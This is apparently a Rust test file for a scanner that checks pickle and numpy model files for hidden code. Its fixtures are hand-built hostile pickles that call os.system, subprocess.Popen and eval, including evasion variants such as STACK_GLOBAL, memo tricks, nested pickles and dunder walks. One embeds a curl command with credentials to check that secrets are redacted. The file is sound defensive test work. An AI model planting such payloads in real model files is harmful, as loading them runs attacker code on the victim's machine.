//! Every trick to hide code in a pickle, and what is harmless.
#![allow(
    clippy::unwrap_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::arithmetic_side_effects,
    clippy::cast_possible_truncation
)]

use lidless_core::{Artifact, Entry, FingerprintKey, Layer, Limits, ModelVerdict, Provenance};
use lidless_detect::model::{AllowedImports, ModelDetector, judge_pickle};
use lidless_detect::{Context, Detector, Head, Output, View, Want};
use lidless_io::MemoryBytes;
use std::sync::Arc;

fn verdict(bytes: &[u8]) -> ModelVerdict {
    judge_pickle(&MemoryBytes::new(bytes.to_vec()), 0, &AllowedImports::default()).verdict
}

fn detect(name: &str, bytes: &[u8]) -> Option<Output> {
    let place = Provenance::new(Layer::File { path: format!("/{name}") });
    let artifact = Artifact::new(
        Entry::new(place, Some(bytes.len() as u64)),
        Arc::new(MemoryBytes::new(bytes.to_vec())),
    );
    let head = &bytes[..bytes.len().min(16 << 10)];
    if ModelDetector.wants(&artifact.entry, &Head::new(head)) == Want::Nothing {
        return None;
    }
    let context = Context {
        key: FingerprintKey::from_bytes([0; 32]),
        limits: Limits::default(),
        imports: AllowedImports::default(),
        verify: false,
    };
    let mut output = Output::default();
    ModelDetector.detect(
        &View { artifact: &artifact, head, text: None, pieces: None },
        &context,
        &mut output,
    );
    Some(output)
}

fn short(text: &str) -> Vec<u8> {
    [&[0x8c, text.len() as u8][..], text.as_bytes()].concat()
}

fn join(parts: &[&[u8]]) -> Vec<u8> {
    parts.concat()
}

#[test]
fn every_way_to_call_a_dangerous_name_is_seen() {
    let (os, system, run) = (short("os"), short("system"), short("echo 1"));
    for (name, bytes) in [
        ("GLOBAL and REDUCE", b"\x80\x02cos\nsystem\nX\x01\0\0\0a\x85R.".to_vec()),
        ("protocol 0", b"cos\nsystem\n(S'echo 1'\ntR.".to_vec()),
        ("INST", b"(S'echo 1'\nios\nsystem\n.".to_vec()),
        ("OBJ", b"(cos\nsystem\nS'echo 1'\no.".to_vec()),
        ("OBJ and POP", b"\x80\x02(cos\nsystem\nS'echo 1'\no0N.".to_vec()),
        ("STACK_GLOBAL", join(&[b"\x80\x04", &os, &system, b"\x93", &run, b"\x85R."])),
        (
            "noise between",
            join(&[b"\x80\x04", &os, b"K\x010", &system, b"20\x93", &run, b"\x85R."]),
        ),
        (
            "memo",
            join(&[b"\x80\x04", &os, b"\x94", &system, b"\x9400h\0h\x01\x93", &run, b"\x85R."]),
        ),
        ("import alone", b"\x80\x02cos\nsystem\n.".to_vec()),
        ("submodule", b"\x80\x02casyncio.unix_events\nx\n.".to_vec()),
        ("python 2 name", b"\x80\x02c__builtin__\neval\nU\x01aR.".to_vec()),
        ("dotted walk", join(&[b"\x80\x04", &short("pathlib"), &short("os.system"), b"\x93."])),
        (
            "dunder walk",
            join(&[
                b"\x80\x04",
                &short("collections"),
                &short("OrderedDict.__init__.__globals__"),
                b"\x93.",
            ]),
        ),
        ("escaped string", b"\x80\x02(S'\\x6f\\x73'\nS'\\163ystem'\n\x93.".to_vec()),
        ("nested pickle", join(&[b"\x80\x03cpickle\nloads\nC\x0dcos\nsystem\nN.\x85R."])),
        (
            "torch nested",
            join(&[b"\x80\x03ctorch.storage\n_load_from_bytes\nC\x0ccos\nsystem\n.\x85R."]),
        ),
        ("second stream", b"\x80\x02N.\x80\x02cos\nsystem\n.".to_vec()),
        ("after it breaks", b"\x80\x02cos\nsystem\nX\x01\0\0\0a\x85R\xff\xff".to_vec()),
        ("NEWOBJ", b"\x80\x02csubprocess\nPopen\nU\x01a\x85\x81.".to_vec()),
    ] {
        assert_eq!(verdict(&bytes), ModelVerdict::Dangerous, "{name}");
    }
}

#[test]
fn what_only_hides_is_suspicious() {
    for (name, bytes) in [
        ("hidden name", join(&[b"\x80\x04", &short("os"), b"K\x01\x93."])),
        ("extension", b"\x80\x02\x82\x01.".to_vec()),
        ("calls a result", b"\x80\x02ccollections\nOrderedDict\n)R)R.".to_vec()),
        ("no STOP", b"\x80\x02ccollections\nOrderedDict\n)R".to_vec()),
        ("length that lies", b"\x80\x02ccollections\nOrderedDict\nX\xff\xff\xff\x7fabc".to_vec()),
        ("negative length", b"\x80\x02ccollections\nOrderedDict\n\x8b\xff\xff\xff\xff.".to_vec()),
        (
            "frame edge",
            join(&[
                b"\x80\x04\x95\x03\0\0\0\0\0\0\0",
                &short("collections"),
                &short("OrderedDict"),
                b"\x93.",
            ]),
        ),
    ] {
        assert_eq!(verdict(&bytes), ModelVerdict::Suspicious, "{name}");
    }
    assert_eq!(verdict(b"\x80\x02cmy.code\nNet\n)R."), ModelVerdict::UnknownImport);
    assert_eq!(verdict(b"\x80\x02U\x01aQ."), ModelVerdict::UnknownImport);
}

#[test]
fn ordinary_checkpoints_are_no_alarm() {
    let state = b"\x80\x02ccollections\nOrderedDict\nq\0)Rq\x01X\x01\0\0\0wq\x02ctorch._utils\n\
        _rebuild_tensor_v2\nq\x03((X\x07\0\0\0storageq\x04ctorch\nFloatStorage\nq\x05X\x01\0\0\x000q\x06\
        X\x03\0\0\0cpuq\x07K\x04tq\x08QK\0K\x04\x85q\tK\x01\x85q\n\x89ccollections\nOrderedDict\n)Rtq\x0bRq\x0cs.";
    assert_eq!(verdict(state), ModelVerdict::WeightsOnly);
    let numpy =
        b"\x80\x03cnumpy.core.multiarray\n_reconstruct\ncnumpy\nndarray\nK\0\x85C\x01b\x87R.";
    assert_eq!(verdict(numpy), ModelVerdict::Safe);
    let output = detect("net.pt", state).unwrap();
    assert_eq!(output.findings[0].rule, "model.weights_only");
}

#[test]
fn what_is_no_model_is_left_alone() {
    for (name, bytes) in [
        ("a.txt", &b"config = 1\nsome words\n"[..]),
        ("model.ckpt", b"version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 1\n"),
        ("weights.bin", b"{\"a\": 1}\n"),
        ("model.pt", b"# comment\nimport os\n"),
        ("x.bin", &[0u8; 64]),
        ("notes.pkl", b"This is not a pickle, it is a sentence.\n"),
        ("classes.txt", b"cat\ndog\ncow\n"),
        ("empty.pt", b""),
    ] {
        let findings = detect(name, bytes).map(|output| output.findings).unwrap_or_default();
        assert!(findings.is_empty(), "{name}: {findings:?}");
    }
}

#[test]
fn a_finding_says_what_would_run_without_its_secrets() {
    let command = b"curl https://u:hunter2@example.com/ -H token=hunter2";
    let bytes = join(&[
        b"\x80\x02cposix\nsystem\nX",
        &(command.len() as u32).to_le_bytes(),
        command,
        b"\x85R.",
    ]);
    let output = detect("resnet.anything", &bytes).unwrap();
    let finding = &output.findings[0];
    assert_eq!(finding.rule, "model.dangerous");
    assert!(finding.title.contains("posix.system(\"curl"), "{}", finding.title);
    assert!(!format!("{output:?}").contains("hunter2"));
}

#[test]
fn object_arrays_are_pickles_and_number_arrays_are_not() {
    let array = |descr: &str, body: &[u8]| {
        let mut header = format!("{{'descr': '{descr}', 'fortran_order': False, 'shape': (1,), }}");
        while (header.len() + 11) % 64 != 0 {
            header.push(' ');
        }
        header.push('\n');
        join(&[b"\x93NUMPY\x01\0", &(header.len() as u16).to_le_bytes(), header.as_bytes(), body])
    };
    let evil = array("|O", b"\x80\x02cos\nsystem\nU\x01a\x85R.");
    assert_eq!(detect("x.npy", &evil).unwrap().findings[0].rule, "model.dangerous");
    assert_eq!(detect("x.npy", &array("<f8", &[0; 8])).unwrap().findings[0].rule, "model.safe");
}

#[test]
fn hostile_streams_cost_little() {
    lidless_kit::cut_and_flip(
        b"\x80\x04\x95\x10\0\0\0\0\0\0\0\x8c\x02os\x94\x8c\x06system\x94\x93\x8c\x01a\x85R.",
        |bytes| {
            let _ = verdict(bytes);
            let _ = detect("x.pkl", bytes);
        },
    );
    let mut bomb = b"\x80\x02]".to_vec();
    bomb.extend(b"2\x86".repeat(2_000_000));
    bomb.push(b'.');
    let _ = verdict(&bomb);
    let _ = verdict(&vec![b'('; 5_000_000]);
}
